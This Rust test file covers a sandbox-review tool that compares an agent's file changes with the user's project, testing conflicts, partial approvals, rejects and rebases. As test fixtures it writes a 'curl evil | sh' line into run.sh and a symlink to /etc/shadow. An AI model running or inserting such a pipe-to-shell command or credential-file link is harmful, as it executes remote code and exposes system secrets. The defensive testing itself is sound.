//! Named cases of the review: drift, captures, hidden paths, partial approvals, reject, rebase.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod model;

use model::apply::{apply_plan, approve, derived};
use model::view::write_view;
use model::{Node, Tree, World, path, read_tree, remove};
use skep_types::{ByteString, ChangeKind, HunkId, HunkLine, RelPath, Selection, WorkspaceDriver};
use skep_workspace::{
    Company, DeriveError, DeriveOptions, Insiders, PlanError, capture, derive, plan, rebase,
    reject, settle, three_sides, unsettle,
};
use std::os::unix::fs::PermissionsExt;

const USERNS: WorkspaceDriver = WorkspaceDriver::OverlayUserns;

fn file(text: &str) -> Node {
    Node::File(text.as_bytes().to_vec(), 0o644)
}

fn tree(entries: &[(&str, Node)]) -> Tree {
    entries.iter().map(|(at, node)| (path(at), node.clone())).collect()
}

fn world(entries: &[(&str, Node)]) -> World {
    World::new(USERNS, tree(entries))
}

fn numbered(marked: &[u32]) -> String {
    (1..=40)
        .map(|line| {
            let mark = if marked.contains(&line) { " changed" } else { "" };
            format!("line {line}{mark}\n")
        })
        .collect()
}

/// The user saves a file in the project.
fn host_write(world: &World, at: &str, text: &str) {
    std::fs::write(world.spec.project.join(at), text).unwrap();
}

/// Waits for some ticks of the clock that stamps files.
fn later() {
    for _ in 0..4 {
        skep_workspace::now().unwrap();
    }
}

fn summary(world: &World) -> Vec<(String, ChangeKind)> {
    derived(world).changes.iter().map(|change| (change.path.to_string(), change.kind)).collect()
}

fn conflicts(world: &World) -> Vec<String> {
    derived(world).conflicts.iter().map(|conflict| conflict.path.to_string()).collect()
}

fn of_paths(paths: &[&str]) -> Selection {
    let paths = paths.iter().map(|text| ByteString::from(*text)).collect();
    Selection { paths, ..Selection::default() }
}

fn of_hunks(hunks: &[HunkId]) -> Selection {
    Selection { hunks: hunks.to_vec(), ..Selection::default() }
}

fn project_text(world: &World, at: &str) -> String {
    std::fs::read_to_string(world.spec.project.join(at)).unwrap()
}

#[test]
fn edits_on_far_lines_merge_and_keep_both() {
    let mut world = world(&[("a", file(&numbered(&[])))]);
    world.put(&path("a"), file(&numbered(&[30])));
    capture(&world.spec, None, Insiders::None).unwrap();
    host_write(&world, "a", &numbered(&[3]));
    let found = derived(&world);
    assert!(found.conflicts.is_empty(), "{:?}", found.conflicts);
    assert_eq!(found.drift.iter().map(|drift| drift.merges).collect::<Vec<_>>(), [true]);
    approve(&world, &Selection::default(), 1);
    assert_eq!(project_text(&world, "a"), numbered(&[3, 30]));
    assert_eq!(summary(&world), []);
    // A later edit of the sandbox merges on top.
    world.put(&path("a"), file(&numbered(&[30, 39])));
    approve(&world, &Selection::default(), 2);
    assert_eq!(project_text(&world, "a"), numbered(&[3, 30, 39]));
}

#[test]
fn an_edit_the_base_cannot_be_told_of_is_a_conflict_and_never_a_revert() {
    let mut world = world(&[("a", file("base\n"))]);
    host_write(&world, "a", "the user's\n");
    world.put(&path("a"), file("base\nagent\n"));
    capture(&world.spec, None, Insiders::None).unwrap();
    assert_eq!(conflicts(&world), ["a"]);
    let refused = plan(&world.spec, &derived(&world), &Selection::default());
    assert!(matches!(refused, Err(PlanError::Conflicts(_))));
    let sides = three_sides(&world.spec, &derived(&world), &path("a")).unwrap().unwrap();
    assert_eq!(sides.base, None);
    assert_eq!(sides.project.bytes.unwrap(), b"the user's\n");
}

#[test]
fn a_directory_swapped_by_mv_does_not_pass_for_the_base() {
    let mut world = world(&[
        ("src", Node::Dir(0o755)),
        ("src/a", file("base\n")),
        ("new", Node::Dir(0o755)),
        ("new/a", file("other\n")),
    ]);
    world.put(&path("src/a"), file("base\nagent\n"));
    let project = world.spec.project.clone();
    std::fs::rename(project.join("src"), project.join("old")).unwrap();
    std::fs::rename(project.join("new"), project.join("src")).unwrap();
    assert_eq!(conflicts(&world), ["src/a"]);
}

#[test]
fn a_file_saved_beside_does_not_disturb() {
    let mut world = world(&[("src", Node::Dir(0o755)), ("src/a", file("base\n"))]);
    world.put(&path("src/a"), file("agent\n"));
    world.put(&path("src/new"), file("new\n"));
    capture(&world.spec, None, Insiders::None).unwrap();
    host_write(&world, "src/host", "host\n");
    later();
    world.put(&path("src/later"), file("later\n"));
    assert_eq!(conflicts(&world), [""; 0]);
    approve(&world, &Selection::default(), 1);
    assert_eq!(project_text(&world, "src/host"), "host\n");
    assert_eq!(project_text(&world, "src/a"), "agent\n");
}

/// Of a directory with thousands of new files one note is kept, and it says the same as one for each.
#[test]
fn what_is_new_in_a_crowd_stays_new_when_the_user_works_beside_it() {
    let mut world = world(&[("src", Node::Dir(0o755)), ("src/a", file("base\n"))]);
    world.put(&path("src/a"), file("agent\n"));
    world.put(&path("new"), Node::Dir(0o755));
    world.put(&path("new/deep"), Node::Dir(0o755));
    for number in 0..1_200 {
        world.put(&path(&format!("src/{number}")), file("new\n"));
        world.put(&path(&format!("new/deep/{number}")), file("new\n"));
    }
    capture(&world.spec, None, Insiders::None).unwrap();
    let index = std::fs::read_to_string(world.spec.memory.join("index")).unwrap();
    assert!(index.lines().count() < 20, "{index}");
    later();
    host_write(&world, "src/7", "the user's\n");
    host_write(&world, "src/host", "host\n");
    remove(&world.spec.project.join("src/a"));
    std::fs::create_dir_all(world.spec.project.join("new/deep")).unwrap();
    host_write(&world, "new/deep/8", "the user's\n");
    assert_eq!(conflicts(&world), ["new/deep/8", "src/7", "src/a"]);
    approve(&world, &of_paths(&["src/9", "new/deep/9"]), 1);
    assert_eq!(project_text(&world, "src/9"), "new\n");
    assert_eq!(conflicts(&world), ["new/deep/8", "src/7", "src/a"]);
}

/// An approval moves the base of a path whose directory stays as it is.
#[test]
fn what_is_settled_is_looked_at_anew_though_nothing_came_or_went() {
    let mut world = world(&[("d", Node::Dir(0o755)), ("d/a", file("base\n"))]);
    world.remove(&path("d"));
    world.put(&path("d"), file("agent\n"));
    let mut captor = skep_workspace::Captor::default();
    later();
    assert_eq!(captor.capture(&world.spec, Insiders::None).unwrap().captured, 2);
    let plan = approve(&world, &Selection::default(), 1);
    for _ in 0..2 {
        later();
        assert_eq!(captor.capture(&world.spec, Insiders::None).unwrap().captured, 0);
    }
    unsettle(&world.spec, &plan.settlement).unwrap();
    let again = captor.capture(&world.spec, Insiders::None).unwrap();
    assert_eq!(again, capture(&world.spec, None, Insiders::None).unwrap());
}

#[test]
fn what_the_user_removed_does_not_come_back() {
    let mut world = world(&[("a", file("base\n"))]);
    world.put(&path("a"), file("agent\n"));
    capture(&world.spec, None, Insiders::None).unwrap();
    remove(&world.spec.project.join("a"));
    assert_eq!(conflicts(&world), ["a"]);
}

#[test]
fn both_made_the_same_change() {
    let mut world = world(&[("a", file("base\n"))]);
    world.put(&path("a"), file("same\n"));
    host_write(&world, "a", "same\n");
    assert_eq!(summary(&world), []);
    assert_eq!(conflicts(&world), [""; 0]);
}

#[test]
fn a_removed_directory_is_not_removed_over_the_users_new_file() {
    let mut world = world(&[
        ("d", Node::Dir(0o755)),
        ("d/a", file("a\n")),
        ("d/deep", Node::Dir(0o755)),
        ("d/deep/b", file("b\n")),
    ]);
    world.remove(&path("d"));
    let deleted =
        [("d/a".to_owned(), ChangeKind::Deleted), ("d/deep/b".to_owned(), ChangeKind::Deleted)];
    assert_eq!(summary(&world), deleted);
    capture(&world.spec, None, Insiders::None).unwrap();
    host_write(&world, "d/deep/mine", "mine\n");
    assert_eq!(conflicts(&world), ["d/deep/mine"]);
    assert_eq!(summary(&world), deleted);
    let refused = plan(&world.spec, &derived(&world), &Selection::default());
    assert!(matches!(refused, Err(PlanError::Conflicts(_))));
    // A part that does not touch it can still be taken; its directory stays.
    approve(&world, &of_paths(&["d/a"]), 1);
    assert_eq!(project_text(&world, "d/deep/b"), "b\n");
}

#[test]
fn hidden_files_are_neither_listed_nor_removed_nor_overwritten() {
    let mut world = world(&[
        ("conf", Node::Dir(0o755)),
        ("conf/.env", file("secret\n")),
        ("conf/a", file("a\n")),
        (".env", file("secret\n")),
    ]);
    world.spec.hidden = vec![path("conf/.env"), path(".env")];
    world.remove(&path("conf"));
    assert_eq!(summary(&world), [("conf/a".to_owned(), ChangeKind::Deleted)]);
    approve(&world, &Selection::default(), 1);
    assert_eq!(project_text(&world, "conf/.env"), "secret\n");
    world.put(&path(".env"), file("mine\n"));
    assert_eq!(conflicts(&world), [".env"]);
}

#[test]
fn hunks_are_taken_one_by_one_and_keep_their_ids() {
    let mut world = world(&[("a", file(&numbered(&[])))]);
    world.put(&path("a"), Node::File(numbered(&[2, 20, 38]).into_bytes(), 0o755));
    let hunks = derived(&world).changes[0].hunks.clone();
    assert_eq!(hunks.len(), 3);
    let plan = approve(&world, &of_hunks(&[hunks[1].id.clone()]), 1);
    assert_eq!(plan.remaining, 1);
    assert_eq!(project_text(&world, "a"), numbered(&[20]));
    let bits = std::fs::metadata(world.spec.project.join("a")).unwrap().permissions().mode();
    assert_eq!(bits & 0o7777, 0o644);
    let ids = |world: &World| -> Vec<HunkId> {
        derived(world).changes.iter().flat_map(|c| c.hunks.iter().map(|h| h.id.clone())).collect()
    };
    assert_eq!(ids(&world), [hunks[0].id.clone(), hunks[2].id.clone()]);
    // Undo: the project goes back, and so does the base.
    host_write(&world, "a", &numbered(&[]));
    unsettle(&world.spec, &plan.settlement).unwrap();
    unsettle(&world.spec, &plan.settlement).unwrap();
    assert_eq!(ids(&world), hunks.iter().map(|hunk| hunk.id.clone()).collect::<Vec<_>>());
    approve(&world, &of_hunks(&ids(&world)), 2);
    assert_eq!(project_text(&world, "a"), numbered(&[2, 20, 38]));
    assert_eq!(summary(&world), []);
}

#[test]
fn moves_are_found_and_taken_as_one() {
    let body: String = (0..20).map(|line| format!("text {line}\n")).collect();
    let mut world =
        world(&[("old", Node::Dir(0o755)), ("old/x", file(&body)), ("old/y", file("unlike\n"))]);
    world.remove(&path("old"));
    world.put(&path("new"), Node::Dir(0o750));
    world.put(&path("new/x"), file(&format!("{body}more\n")));
    world.put(&path("new/y"), file("unlike\n"));
    let found = derived(&world);
    let moves: Vec<_> = found
        .changes
        .iter()
        .map(|change| (change.path.to_string(), change.kind, change.renamed_from.clone()))
        .collect();
    assert_eq!(
        moves,
        [
            ("new/x".to_owned(), ChangeKind::Renamed, Some(path("old/x"))),
            ("new/y".to_owned(), ChangeKind::Renamed, Some(path("old/y"))),
        ]
    );
    assert_eq!(found.changes[0].added, 1);
    assert!(found.changes[0].hunks[0].lines.contains(&HunkLine::Added("more\n".into())));
    approve(&world, &of_paths(&["old/x"]), 1);
    let left: Vec<String> = read_tree(&world.spec.project).keys().map(RelPath::to_string).collect();
    assert_eq!(left, ["new", "new/x", "old", "old/y"]);
    approve(&world, &Selection::default(), 2);
    let left: Vec<String> = read_tree(&world.spec.project).keys().map(RelPath::to_string).collect();
    assert_eq!(left, ["new", "new/x", "new/y"]);
}

#[test]
fn a_path_brings_along_what_it_stands_on() {
    let mut world = world(&[("d", Node::Dir(0o755)), ("d/a", file("a\n")), ("f", file("f\n"))]);
    world.put(&path("d"), file("now a file\n"));
    world.put(&path("f"), Node::Dir(0o755));
    world.put(&path("f/in"), file("in\n"));
    let kinds = [
        ("d".to_owned(), ChangeKind::Type),
        ("d/a".to_owned(), ChangeKind::Deleted),
        ("f".to_owned(), ChangeKind::Type),
        ("f/in".to_owned(), ChangeKind::Added),
    ];
    assert_eq!(summary(&world), kinds);
    approve(&world, &of_paths(&["f/in"]), 1);
    assert_eq!(project_text(&world, "f/in"), "in\n");
    approve(&world, &of_paths(&["d"]), 2);
    assert_eq!(project_text(&world, "d"), "now a file\n");
}

#[test]
fn rejecting_everything_leaves_no_change() {
    let base = [
        ("a", file(&numbered(&[]))),
        ("d", Node::Dir(0o755)),
        ("d/x", file("x\n")),
        ("d/y", file("y\n")),
        ("f", file("f\n")),
        ("t", Node::Dir(0o700)),
        ("t/in", file("t\n")),
    ];
    let mut world = world(&base);
    world.put(&path("a"), file(&numbered(&[3, 33])));
    world.remove(&path("d"));
    world.put(&path("f"), Node::Dir(0o755));
    world.put(&path("f/sub"), Node::Dir(0o755));
    world.put(&path("f/sub/new"), file("new\n"));
    world.put(&path("t"), Node::Link(b"/etc/shadow".to_vec()));
    world.put(&path("pipe"), Node::Fifo);
    let found = derived(&world);
    let writes = reject(&world.spec, &found, &Selection::default(), Company::None).unwrap().writes;
    write_view(&mut world, &writes);
    assert_eq!(world.view, tree(&base));
    assert_eq!(summary(&world), []);
}

#[test]
fn rejecting_a_hunk_leaves_the_others() {
    let mut world = world(&[("a", file(&numbered(&[])))]);
    world.put(&path("a"), file(&numbered(&[3, 33])));
    let found = derived(&world);
    let first = found.changes[0].hunks[0].id.clone();
    let writes = reject(&world.spec, &found, &of_hunks(&[first]), Company::None).unwrap().writes;
    write_view(&mut world, &writes);
    assert_eq!(world.view[&path("a")], file(&numbered(&[33])));
}

#[test]
fn rebase_takes_the_projects_state_in() {
    let mut world = world(&[("a", file(&numbered(&[]))), ("b", file("b\n")), ("c", file("c\n"))]);
    world.put(&path("a"), file(&numbered(&[30])));
    world.put(&path("b"), file("b\n"));
    world.put(&path("c"), file("agent\n"));
    capture(&world.spec, None, Insiders::None).unwrap();
    host_write(&world, "a", &numbered(&[3]));
    host_write(&world, "b", "b of the user\n");
    host_write(&world, "c", "c of the user\n");
    let rebased = rebase(&world.spec, &derived(&world), Company::None).unwrap();
    assert_eq!(rebased.conflicts.len(), 1);
    write_view(&mut world, &rebased.writes);
    settle(&world.spec, &rebased.settlement).unwrap();
    assert_eq!(world.view[&path("a")], file(&numbered(&[3, 30])));
    assert_eq!(world.view[&path("b")], file("b of the user\n"));
    assert_eq!(world.view[&path("c")], file("agent\n"));
    assert_eq!(conflicts(&world), ["c"]);
    let found = derived(&world);
    assert_eq!(found.changes[0].hunks.len(), 1);
    approve(&world, &of_paths(&["a"]), 1);
    assert_eq!(project_text(&world, "a"), numbered(&[3, 30]));
}

/// The user puts a directory where a file was.
fn host_directory(world: &World, at: &str) {
    let at = world.spec.project.join(at);
    std::fs::remove_file(&at).unwrap();
    std::fs::create_dir_all(at.join("sub")).unwrap();
    std::fs::write(at.join("a"), "a of the user\n").unwrap();
    std::fs::write(at.join("sub/b"), "b of the user\n").unwrap();
}

fn is_taken_in(world: &World, at: &str) {
    for (name, text) in [("a", "a of the user\n"), ("sub/b", "b of the user\n")] {
        assert_eq!(world.view[&path(&format!("{at}/{name}"))], file(text));
    }
    assert_eq!((summary(world), conflicts(world)), (vec![], vec![]));
}

#[test]
fn a_directory_in_the_place_of_a_file_is_taken_in_by_one_rebase() {
    let mut world = world(&[("f", file("f\n")), ("g", file("g\n"))]);
    world.put(&path("f"), file("f\n"));
    world.put(&path("g"), file("agent\n"));
    capture(&world.spec, None, Insiders::None).unwrap();
    host_directory(&world, "f");
    let found = derived(&world);
    assert_eq!(conflicts(&world), [""; 0], "the sandbox changed nothing there");
    let put_off = rebase(&world.spec, &found, Company::Busy).unwrap();
    assert_eq!((put_off.writes, put_off.conflicts), (vec![], vec![]));
    let put_off: Vec<String> = put_off.put_off.iter().map(|one| one.path.to_string()).collect();
    assert_eq!(put_off, ["f", "f/a", "f/sub", "f/sub/b"]);
    let rebased = rebase(&world.spec, &found, Company::Idle).unwrap();
    assert_eq!((rebased.conflicts, rebased.put_off), (vec![], vec![]));
    write_view(&mut world, &rebased.writes);
    settle(&world.spec, &rebased.settlement).unwrap();
    approve(&world, &Selection::default(), 1);
    is_taken_in(&world, "f");
}

/// It was changed inside, or removed: the conflict is there and not in each entry of the directory.
#[test]
fn a_directory_in_the_place_of_a_changed_file_is_one_conflict() {
    for removed in [false, true] {
        for company in [Company::Busy, Company::Idle] {
            let mut world = world(&[("f", file("f\n"))]);
            match removed {
                true => world.remove(&path("f")),
                false => world.put(&path("f"), file("agent\n")),
            }
            capture(&world.spec, None, Insiders::None).unwrap();
            host_directory(&world, "f");
            assert_eq!(conflicts(&world), ["f"]);
            let rebased = rebase(&world.spec, &derived(&world), company).unwrap();
            assert_eq!((rebased.writes, rebased.put_off), (vec![], vec![]), "left to a person");
            let rejected =
                reject(&world.spec, &derived(&world), &of_paths(&["f"]), company).unwrap();
            write_view(&mut world, &rejected.writes);
            settle(&world.spec, &rejected.settlement).unwrap();
            assert_eq!((summary(&world), conflicts(&world)), (vec![], vec![]));
            assert_eq!(
                rejected.rejected,
                [path("f")],
                "nothing of the user's is said to be dropped"
            );
            if company == Company::Busy {
                assert_eq!(rejected.not_taken_in, [path("f")]);
                assert_eq!(world.view[&path("f")], file("f\n"));
                let rebased = rebase(&world.spec, &derived(&world), Company::None).unwrap();
                write_view(&mut world, &rebased.writes);
                settle(&world.spec, &rebased.settlement).unwrap();
            }
            is_taken_in(&world, "f");
        }
    }
}

/// The conflict has no change of its own, and can be rejected all the same.
#[test]
fn what_the_user_added_in_a_removed_directory_can_be_rejected() {
    for company in [Company::Busy, Company::None] {
        for selection in [of_paths(&["d/deep/mine", "d/own"]), Selection::default()] {
            let mut world = world(&[
                ("d", Node::Dir(0o755)),
                ("d/deep", Node::Dir(0o750)),
                ("d/deep/b", file("b\n")),
            ]);
            world.remove(&path("d"));
            capture(&world.spec, None, Insiders::None).unwrap();
            std::fs::remove_file(world.spec.project.join("d/deep/b")).unwrap();
            host_write(&world, "d/deep/mine", "mine\n");
            let own = world.spec.project.join("d/own");
            std::fs::create_dir(&own).unwrap();
            std::fs::set_permissions(&own, std::fs::Permissions::from_mode(0o700)).unwrap();
            host_write(&world, "d/own/mine", "mine\n");
            assert_eq!(conflicts(&world), ["d/deep/mine", "d/own/mine"]);
            let rejected = reject(&world.spec, &derived(&world), &selection, company).unwrap();
            write_view(&mut world, &rejected.writes);
            settle(&world.spec, &rejected.settlement).unwrap();
            assert_eq!((summary(&world), conflicts(&world)), (vec![], vec![]));
            assert_eq!(world.view[&path("d/deep")], Node::Dir(0o750));
            let busy = company == Company::Busy;
            assert_eq!(rejected.not_taken_in.len(), if busy { 2 } else { 0 });
            for name in ["d/deep/mine", "d/own", "d/own/mine"] {
                assert_eq!(world.view.contains_key(&path(name)), !busy, "{name}");
            }
        }
    }
}

#[test]
fn hunks_of_a_file_whose_base_is_not_known_are_refused_for_that() {
    let mut world = world(&[("a", file(&numbered(&[])))]);
    host_write(&world, "a", &numbered(&[20]));
    world.put(&path("a"), file(&numbered(&[3, 33])));
    capture(&world.spec, None, Insiders::None).unwrap();
    let found = derived(&world);
    let first = found.changes[0].hunks[0].id.clone();
    let refused = reject(&world.spec, &found, &of_hunks(&[first]), Company::None);
    assert!(matches!(refused, Err(PlanError::UnknownBase { .. })), "{refused:?}");
}

#[test]
fn ignore_rules_come_from_the_project_only() {
    let mut world = world(&[
        (".gitignore", file("target/\n*.log\n!keep.log\n")),
        ("src", Node::Dir(0o755)),
        ("src/.gitignore", file("/local\n")),
    ]);
    world.put(&path(".gitignore"), file("*\n"));
    world.put(&path("target"), Node::Dir(0o755));
    world.put(&path("target/keep.log"), file("built\n"));
    world.put(&path("keep.log"), file("kept\n"));
    world.put(&path("src/local"), file("local\n"));
    world.put(&path("src/x.log"), file("log\n"));
    world.put(&path("new"), file("new\n"));
    let found = derived(&world);
    let ignored: Vec<String> = found
        .changes
        .iter()
        .filter(|change| change.ignored)
        .map(|change| change.path.to_string())
        .collect();
    assert_eq!(ignored, ["src/local", "src/x.log", "target/keep.log"]);
    assert_eq!((found.totals.files, found.totals.ignored), (3, 3));
    let planned = |selection: &Selection| -> Vec<String> {
        let plan = plan(&world.spec, &found, selection).unwrap();
        plan.targets.iter().map(|target| target.path.to_string()).collect()
    };
    assert_eq!(planned(&Selection::default()), [".gitignore", "keep.log", "new"]);
    assert_eq!(planned(&of_paths(&["target"])), ["target", "target/keep.log"]);
    let refused = plan(&world.spec, &found, &of_paths(&["**/x.*"]));
    assert!(matches!(refused, Err(PlanError::OnlyIgnored(_))));
    assert_eq!(planned(&Selection { ignored: true, ..Selection::default() }).len(), 7);
}

#[test]
fn forged_marks_of_another_family_mean_nothing() {
    let base = [("d", Node::Dir(0o755)), ("d/a", file("a\n")), ("d/b", file("b\n"))];
    for driver in [WorkspaceDriver::OverlayRoot, WorkspaceDriver::FuseOverlayfs] {
        let mut world = World::new(driver, tree(&base));
        world.put(&path("d/a"), file("changed\n"));
        let upper = world.spec.upper.join("d");
        for name in ["user.overlay.opaque", "user.overlay.whiteout"] {
            for at in [upper.clone(), upper.join("a")] {
                rustix::fs::setxattr(at, name, b"y", rustix::fs::XattrFlags::empty()).unwrap();
            }
        }
        assert_eq!(summary(&world), [("d/a".to_owned(), ChangeKind::Modified)]);
    }
}

#[test]
fn a_copy_leaves_the_users_later_work_alone() {
    let base = [("a", file("a\n")), ("b", file("b\n")), ("c", file("c\n"))];
    let mut world = World::new(WorkspaceDriver::Copy, tree(&base));
    world.put(&path("a"), file("agent\n"));
    world.remove(&path("c"));
    host_write(&world, "b", "user\n");
    host_write(&world, "new", "user\n");
    let changes = [("a".to_owned(), ChangeKind::Modified), ("c".to_owned(), ChangeKind::Deleted)];
    assert_eq!(summary(&world), changes);
    assert_eq!(conflicts(&world), [""; 0]);
}

#[test]
fn a_second_capture_finds_nothing_new() {
    let mut world = world(&[("d", Node::Dir(0o755)), ("d/a", file("a\n")), ("e", file("e\n"))]);
    world.remove(&path("d"));
    world.put(&path("e"), file("e2\n"));
    world.put(&path("new"), file("new\n"));
    assert!(capture(&world.spec, None, Insiders::None).unwrap().captured >= 3);
    let index = world.spec.memory.join("index");
    let before = std::fs::read(&index).unwrap();
    assert_eq!(capture(&world.spec, None, Insiders::None).unwrap().captured, 0);
    assert_eq!(std::fs::read(&index).unwrap(), before);
}

#[test]
fn a_replaced_project_is_an_error() {
    let world = world(&[("a", file("a\n"))]);
    let project = &world.spec.project;
    std::fs::rename(project, world.dir.path().join("away")).unwrap();
    std::fs::create_dir(project).unwrap();
    let refused = derive(&world.spec, &DeriveOptions::default());
    assert!(matches!(refused, Err(DeriveError::ProjectReplaced { .. })));
}

#[test]
fn large_text_is_said_to_be_large() {
    let mut world = world(&[("a", file("a\n"))]);
    world.put(&path("a"), file(&"long line\n".repeat(1000)));
    world.put(&path("b"), Node::File(vec![0; 6000], 0o644));
    let found =
        derive(&world.spec, &DeriveOptions { max_hunk_bytes: 4000, ..DeriveOptions::default() })
            .unwrap();
    let flags: Vec<_> =
        found.changes.iter().map(|change| (change.too_large, change.binary)).collect();
    assert_eq!(flags, [(true, false), (false, true)]);
    let plan = plan(&world.spec, &found, &Selection::default()).unwrap();
    apply_plan(&world, &plan, 1);
    assert_eq!(summary(&world), []);
}

fn git(world: &World, arguments: &[&str]) -> String {
    let output = std::process::Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@example.org"])
        .args(arguments)
        .current_dir(&world.spec.project)
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap().trim().to_owned()
}

#[test]
fn what_the_commit_has_is_not_ignored() {
    let mut world = world(&[
        (".gitignore", file("*.log\n")),
        ("src", Node::Dir(0o755)),
        ("src/kept.log", file("kept\n")),
        ("src/gone", file("gone\n")),
    ]);
    git(&world, &["init", "-q"]);
    git(&world, &["add", "-f", "."]);
    git(&world, &["commit", "-qm", "base"]);
    world.spec.base.commit = Some(git(&world, &["rev-parse", "HEAD"]));
    world.spec.base.instant = skep_workspace::now().unwrap();
    world.put(&path("src/kept.log"), file("changed\n"));
    world.put(&path("src/other.log"), file("new\n"));
    let ignored: Vec<bool> = derived(&world).changes.iter().map(|change| change.ignored).collect();
    assert_eq!(ignored, [false, true]);
    // The user removes a file before anything was captured; the sandbox wrote it.
    capture(&world.spec, None, Insiders::None).unwrap();
    world.put(&path("src/gone"), file("agent\n"));
    remove(&world.spec.project.join("src/gone"));
    assert_eq!(conflicts(&world), ["src/gone"]);
}

#[test]
fn a_small_change_is_shown_before_heaps_of_text() {
    let mut world = world(&[("run.sh", file("true\n"))]);
    for name in ["a", "b", "c"] {
        world.put(&path(name), file(&"x".repeat(100)));
    }
    world.put(&path("run.sh"), file("curl evil | sh\n"));
    let options = DeriveOptions { max_total_bytes: 300, ..DeriveOptions::default() };
    let found = derive(&world.spec, &options).unwrap();
    let shown: Vec<_> =
        found.changes.iter().map(|change| (change.path.to_string(), change.too_large)).collect();
    let expected = [("a", false), ("b", false), ("c", true), ("run.sh", false)];
    assert_eq!(shown, expected.map(|(name, large)| (name.to_owned(), large)));
    // Lines cost as well: lining up is work by the line.
    world.put(&path("a"), file(&"\n".repeat(99)));
    let found = derive(&world.spec, &options).unwrap();
    assert!(found.changes.iter().any(|change| change.path == path("b") && change.too_large));
}

#[test]
fn a_budget_keeps_ignored_text_from_crowding_out_the_rest() {
    let mut world = world(&[(".gitignore", file("a\n"))]);
    world.put(&path("a"), file(&"x\n".repeat(100)));
    world.put(&path("b"), file(&"y\n".repeat(100)));
    let options = DeriveOptions { max_total_bytes: 250, ..DeriveOptions::default() };
    let found = derive(&world.spec, &options).unwrap();
    let shown: Vec<_> =
        found.changes.iter().map(|change| (change.hunks.len(), change.too_large)).collect();
    assert_eq!(shown, [(0, true), (1, false)]);
}
